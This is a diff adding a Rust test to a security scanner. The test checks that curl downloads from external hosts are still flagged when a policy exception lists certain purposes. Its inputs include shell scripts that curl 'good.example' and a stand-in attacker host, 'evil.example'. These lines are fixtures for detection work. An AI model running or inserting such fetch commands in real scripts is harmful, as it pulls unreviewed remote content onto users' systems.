@@ -265,6 +265,18 @@ fn an_exception_spares_its_host_only_and_a_person_still_looks() {
         assert_eq!(!report.flags.external_io_attempt, spared, "{line}");
         assert!(report.level >= RiskLevel::Medium, "{line}");
     }
+    for own in ["landing", "witness"] {
+        let policy = policy_with(|value| {
+            value["external_exceptions"] = serde_json::json!([{
+                "id": "except-a", "host": "good.example", "purpose": own, "reason": "test"
+            }]);
+        });
+        let change = added("get.sh", &["#!/bin/sh", "curl https://good.example/x"]);
+        assert!(
+            scanned_with(&change, &policy).flags.external_io_attempt,
+            "{own}"
+        );
+    }
     let mut many = vec!["curl https://good.example/x"; 30];
     many.push("curl https://evil.example/x");
     let report = scanned_with(&added("get.sh", &many), &policy);
